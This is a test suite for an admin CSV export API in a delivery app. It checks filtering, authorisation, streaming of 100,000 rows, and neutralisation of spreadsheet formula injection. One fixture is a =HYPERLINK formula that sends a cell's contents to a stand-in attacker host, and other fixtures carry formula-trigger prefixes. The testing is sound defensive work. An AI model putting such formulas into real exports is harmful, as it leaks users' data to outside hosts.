import { once } from 'node:events';
import { get } from 'node:http';
import type { AddressInfo } from 'node:net';
import { runInNewContext } from 'node:vm';
import { setFlagsFromString } from 'node:v8';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { newId } from '../../src/lib/crypto.ts';
import { makeDriver, makePackage, type DriverFixture } from '../fixtures.ts';
import { describeApi, setupApp, unique, type TestContext } from '../helper.ts';

/** Splits a CSV body (RFC 4180: quoted cells, doubled quotes, CRLF records) into rows of cells. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  const body = text.replace(/^\uFEFF/, '');
  for (let i = 0; i < body.length; i += 1) {
    const c = body[i]!;
    if (quoted) {
      if (c === '"' && body[i + 1] === '"') {
        cell += '"';
        i += 1;
      } else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') {
      row.push(cell);
      cell = '';
    } else if (c === '\r' && body[i + 1] === '\n') {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
      i += 1;
    } else cell += c;
  }
  return rows;
}

const HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for your refund")';

describeApi('CSV exports (admin)', () => {
  let ctx: TestContext;
  let driver: DriverFixture;
  const tag = unique('EXP').toLowerCase();

  beforeAll(async () => {
    ctx = await setupApp();
    driver = await makeDriver(ctx, { name: `Dana ${tag}` });
    await makePackage(ctx, { trackingNumber: `X-${tag}-1`, customerName: HYPERLINK, itemDescription: '+1 555 0100, "fragile"\nupright', status: 'delivered' }, driver);
    await makePackage(ctx, { trackingNumber: `X-${tag}-2`, customerName: 'Plain Customer', deliveryAddress: `@${tag} 1 Main St, Springfield, IL 62701` });
    const pickup = await ctx.request({
      method: 'POST',
      url: '/api/schedule-pickup',
      payload: {
        customerName: '-2+3 Pickup',
        phone: '(312) 555-0199',
        email: `p-${tag}@example.com`,
        originAddress: '233 S Wacker Dr, Chicago, IL 60606',
        destinationAddress: '700 N Art Museum Dr, Milwaukee, WI 53202',
        itemDescription: `@SUM(1+1) ${tag}`,
      },
    });
    expect(pickup.statusCode).toBe(201);
  });
  afterAll(async () => ctx?.close());

  const exportCsv = (path: string, token: string | null = ctx.adminToken) => ctx.request({ method: 'GET', url: path, token });

  it('exports the filtered packages with their outcome and driver; a =HYPERLINK(…) cell is neutralised', async () => {
    const res = await exportCsv(`/api/exports/packages?q=${tag}&sort=trackingNumber&order=asc`);
    expect(res.statusCode).toBe(200);
    expect(res.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(res.headers['content-disposition']).toMatch(/^attachment; filename="packages-\d{4}-\d{2}-\d{2}\.csv"$/);
    expect(res.body.startsWith('\uFEFF"Tracking Number","Status","Outcome"')).toBe(true);
    const [header, ...rows] = parseCsv(res.body);
    expect(rows.map((r) => r[0])).toEqual([`X-${tag}-1`, `X-${tag}-2`]);
    const col = (name: string) => header!.indexOf(name);
    const first = rows[0]!;
    // The formula arrives as text: a leading quote, so no spreadsheet evaluates it; the rest of the cell is intact.
    expect(first[col('Customer Name')]).toBe(`'${HYPERLINK}`);
    expect(res.body).not.toMatch(/(^|,)"?=HYPERLINK/m);
    expect(first[col('Item Description')]).toBe(`'+1 555 0100, "fragile"\nupright`);
    expect(first[col('Outcome')]).toBe('Delivered');
    expect(first[col('Driver')]).toBe(`Dana ${tag}`);
    expect(first[col('Driver ID')]).toBe(driver.id);
    expect(rows[1]![col('Delivery Address')]).toBe(`'@${tag} 1 Main St, Springfield, IL 62701`);
    // Filters are the list's: only the delivered one.
    const delivered = parseCsv((await exportCsv(`/api/exports/packages?q=${tag}&status=delivered`)).body);
    expect(delivered.slice(1).map((r) => r[0])).toEqual([`X-${tag}-1`]);
    const unassigned = parseCsv((await exportCsv(`/api/exports/packages?q=${tag}&driverId=none`)).body);
    expect(unassigned.slice(1).map((r) => r[0])).toEqual([`X-${tag}-2`]);
  });

  it('exports drivers with their packages on board, and pickup requests, neutralised too', async () => {
    const drivers = parseCsv((await exportCsv(`/api/exports/drivers?q=${tag}`)).body);
    expect(drivers[0]!.slice(0, 4)).toEqual(['Name', 'Phone', 'Email', 'Vehicle']);
    expect(drivers.slice(1).map((r) => r[0])).toEqual([`Dana ${tag}`]);
    // The delivered package is not on board any more.
    expect(drivers[1]![drivers[0]!.indexOf('Packages On Board')]).toBe('0');
    expect(parseCsv((await exportCsv(`/api/exports/drivers?q=${tag}&active=false`)).body)).toHaveLength(1);

    const pickups = parseCsv((await exportCsv(`/api/exports/pickup-requests?q=${tag}&status=pending`)).body);
    expect(pickups.slice(1).map((r) => [r[0], r[5]])).toEqual([["'-2+3 Pickup", `'@SUM(1+1) ${tag}`]]);
    expect(parseCsv((await exportCsv(`/api/exports/pickup-requests?q=${tag}&status=completed`)).body)).toHaveLength(1);
  });

  it('refuses bad filters with 400; admin only', async () => {
    const bad = await exportCsv('/api/exports/packages?sort=pinHash');
    expect(bad.statusCode).toBe(400);
    expect(bad.json().issues[0]).toMatchObject({ path: 'sort' });
    expect((await exportCsv('/api/exports/pickup-requests?status=lost')).statusCode).toBe(400);
    expect((await exportCsv('/api/exports/drivers?active=maybe')).statusCode).toBe(400);
    for (const path of ['/api/exports/packages', '/api/exports/drivers', '/api/exports/pickup-requests']) {
      expect((await exportCsv(path, null)).statusCode).toBe(401);
      expect((await exportCsv(path, driver.token)).statusCode).toBe(403);
    }
  });
});

describeApi('CSV export of 100,000 packages', () => {
  let ctx: TestContext;
  const ROWS = 100_000;

  beforeAll(async () => {
    ctx = await setupApp();
    const now = Date.now();
    const batch = 1_000;
    for (let start = 0; start < ROWS; start += batch) {
      const rows = Array.from({ length: batch }, (_, j) => {
        const i = start + j;
        return {
          id: newId(),
          trackingNumber: `BIG${String(i).padStart(7, '0')}`,
          status: 'delivered',
          currentLocation: 'Delivered',
          estimatedDelivery: 'Monday, January 5, 2026 - Wednesday, January 7, 2026',
          deliveryAddress: `${i} North Michigan Avenue, Chicago, IL 60611`,
          pickupAddress: `${i} South Wacker Drive, Chicago, IL 60606`,
          customerName: `Customer Number ${i}`,
          customerPhone: '(312) 555-0142',
          weight: '12 kg',
          dimensions: '40x30x20 cm',
          itemDescription: 'Household goods, blanket wrapped',
          serviceType: 'Standard Delivery',
          driver: null,
          driverPhone: null,
          driverId: null,
          realLocationLink: null,
          pickupLat: null,
          pickupLng: null,
          deliveryLat: 41.89,
          deliveryLng: -87.62,
          proximityState: null,
          // Many rows share a creation time: the keyset cursor's id must break the ties.
          createdAt: new Date(now - Math.floor(i / 7) * 1000).toISOString(),
          updatedAt: new Date(now).toISOString(),
        };
      });
      await ctx.app.db.insertInto('packages').values(rows).execute();
    }
    await ctx.app.listen({ host: '127.0.0.1', port: 0 });
  }, 120_000);
  afterAll(async () => ctx?.close());

  it('streams every row exactly once while the server’s live memory stays flat', async () => {
    setFlagsFromString('--expose-gc');
    const gc = runInNewContext('gc') as () => void;
    const live = () => {
      gc();
      return process.memoryUsage().heapUsed;
    };
    const { port } = ctx.app.server.address() as AddressInfo;
    // Each row seen, by its number: allocated before the baseline, so the check costs the heap nothing later.
    const seen = new Uint8Array(ROWS);
    const baseline = live();
    const started = performance.now();
    const response = await new Promise<import('node:http').IncomingMessage>((resolve, reject) => {
      get({ host: '127.0.0.1', port, path: '/api/exports/packages', headers: { authorization: `Bearer ${ctx.adminToken}` } }, resolve).on('error', reject);
    });
    expect(response.statusCode).toBe(200);
    let bytes = 0;
    let lines = 0;
    let nextSample = 4 * 1024 * 1024;
    let peak = 0;
    let repeated = 0;
    let tail = '';
    response.setEncoding('utf8');
    response.on('data', (chunk: string) => {
      bytes += Buffer.byteLength(chunk);
      const text = tail + chunk;
      const records = text.split('\r\n');
      tail = records.pop() ?? '';
      for (const record of records) {
        lines += 1;
        if (lines === 1) continue;
        const n = Number(record.slice(4, 11));
        if (seen[n]) repeated += 1;
        seen[n] = 1;
      }
      if (bytes >= nextSample) {
        nextSample += 4 * 1024 * 1024;
        peak = Math.max(peak, live() - baseline);
      }
    });
    await once(response, 'end');
    const seconds = (performance.now() - started) / 1000;
    console.info(`CSV export of ${ROWS} packages (${ctx.dialect}): ${(bytes / 1e6).toFixed(1)} MB in ${seconds.toFixed(1)} s; live heap growth at most ${(peak / 1e6).toFixed(1)} MB`);
    expect(lines).toBe(ROWS + 1);
    // Keyset pages over many equal creation times: none skipped, none twice.
    expect(repeated).toBe(0);
    expect(seen.every((v) => v === 1)).toBe(true);
    expect(bytes).toBeGreaterThan(30e6);
    // The whole file held in memory would be > 30 MB; a page of 500 rows is ~150 KB.
    expect(peak).toBeLessThan(12e6);
  }, 120_000);
});

describe('the CSV parser of this test', () => {
  it('reads quotes, commas and line breaks inside cells', () => {
    expect(parseCsv('"a","b ""c""",1\r\n"x\ny",,\r\n')).toEqual([['a', 'b "c"', '1'], ['x\ny', '', '']]);
  });
});
